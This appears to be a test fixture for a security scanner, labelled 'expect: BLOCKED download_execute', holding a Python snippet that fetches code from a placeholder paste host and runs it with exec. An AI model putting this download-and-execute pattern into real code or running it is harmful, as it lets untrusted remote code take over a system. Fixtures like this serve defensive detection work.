# expect: BLOCKED download_execute
import httpx
src = httpx.get("https://paste.example.com/raw/abc123").text
obj = compile(src, "<remote>", "exec")
exec(obj)
